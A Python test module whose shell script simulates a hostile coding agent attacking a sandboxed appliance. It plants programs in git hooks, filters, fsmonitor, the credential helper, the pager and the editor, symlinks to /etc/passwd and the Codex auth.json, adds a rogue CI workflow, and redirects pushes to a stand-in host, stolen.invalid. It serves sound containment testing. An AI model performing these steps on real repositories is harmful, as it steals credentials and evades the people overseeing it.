"""Actions of a hostile or careless agent that the appliance must withstand.

`plant` leaves programs wherever git might run one. Each of them creates a file `ran-<what>-on-<host name>`
in the folder above the repository, in /work/runs and in /tmp, if it can write there. `planted-on-<host name>` beside
the repository records the host of the planting: a program that ran on another host ran in the wrong place.
"""

import shlex

_STOLEN = "https://stolen.invalid/steal.git"

# Codex gives its tools an environment without CODEX_HOME, so search the login's default place.
PRINT_CREDENTIALS = 'cat "${CODEX_HOME:-$HOME/.codex}/auth.json" || true; env'


def file_with_secret(secret: str) -> str:
    """A file that contains a credential."""
    return f"# Notes\n\nThe push works with this:\n\n    GITHUB_TOKEN={secret}\n"


def plant(folder: str) -> str:
    """A shell script that plants all of it from the repository's root. Safe to run again."""
    return _PLANT.replace("@FOLDER@", shlex.quote(folder)).replace("@STOLEN@", _STOLEN)


_PLANT = r"""
set -u
top=$(pwd); above=$(dirname "$top"); evil="$top/.git/evil"; mkdir -p "$evil/hooks"
echo planted > "$above/planted-on-$(hostname)"
program() { # name, and what it does with its input: it says where it ran
  {
    echo '#!/bin/sh'
    echo "for folder in '$above' /work/runs /tmp; do"
    echo "  { id; env | cut -d= -f1; } > \"\$folder/ran-$1-on-\$(hostname)\" 2>/dev/null"
    echo 'done'
    echo "${2:-cat}"
  } > "$evil/$1"
  chmod 755 "$evil/$1"
}
for name in clean smudge textconv external-diff credential ssh gpg pager editor; do program $name; done
program fsmonitor 'printf "/\0"'
hooks="pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-index-change"
for hook in $hooks reference-transaction pre-push; do
  program "hook-$hook" 'exit 0'
  cp "$evil/hook-$hook" "$evil/hooks/$hook"; mkdir -p .git/hooks; cp "$evil/hook-$hook" ".git/hooks/$hook"
done
arm() { # repository: make its git run programs that lie inside its own .git
  own="$1/.git/evil"; [ "$own" = "$evil" ] || cp -R "$evil" "$1/.git/"
  g() { git --git-dir="$1/.git" config "$2" "$3"; }
  g "$1" core.fsmonitor "$own/fsmonitor"
  g "$1" core.hooksPath "$own/hooks"
  g "$1" filter.evil.clean "$own/clean"
  g "$1" filter.evil.smudge "$own/smudge"
  g "$1" filter.evil.required true
  g "$1" diff.evil.textconv "$own/textconv"
  g "$1" diff.external "$own/external-diff"
  g "$1" credential.helper "$own/credential"
  g "$1" core.sshCommand "$own/ssh"
  g "$1" gpg.program "$own/gpg"
  g "$1" commit.gpgSign true
  g "$1" core.pager "$own/pager"
  g "$1" core.editor "$own/editor"
}
nest() { # folder: a repository of its own inside the worktree
  [ -d "$1/.git" ] && return
  git init -q "$1"
  echo "text of a nested repository" > "$1/nested.txt"
  echo '* filter=evil diff=evil' > "$1/.gitattributes"
  # Without a commit of its own, git would refuse to look into it.
  git -C "$1" add -A
  git -C "$1" -c user.name=nested -c user.email=nested@rehearsal.example commit -qm nested
  arm "$top/$1"
}
nest nested-repository
git ls-files -s | sed -n 's/^160000 [0-9a-f]* 0\t//p' | while IFS= read -r path; do mkdir -p "$path"; nest "$path"; done
echo '* filter=evil diff=evil' > .gitattributes
mkdir -p .github/workflows .GitHub/Workflows .husky docs
printf 'on: push\njobs: {evil: {runs-on: self-hosted, steps: [{run: ./evil.sh}]}}\n' > .github/workflows/evil.yml
cp .github/workflows/evil.yml .GitHub/Workflows/Evil.yml
cp "$evil/hook-pre-commit" .husky/pre-commit; echo '* @attacker' > docs/CODEOWNERS
ln -sfn ../README.md .devcontainer
mkdir -p .git/info; echo '* filter=evil diff=evil' > .git/info/attributes
ln -sfn /etc/passwd @FOLDER@/outside-file
ln -sfn ../../../.. @FOLDER@/outside-folder
ln -sfn "${CODEX_HOME:-$HOME/.codex}/auth.json" @FOLDER@/outside-login
git remote set-url origin @STOLEN@ 2>/dev/null || git remote add origin @STOLEN@
git config remote.origin.pushurl @STOLEN@
git config url.https://stolen.invalid/.insteadOf https://
arm "$top"
echo planted
"""
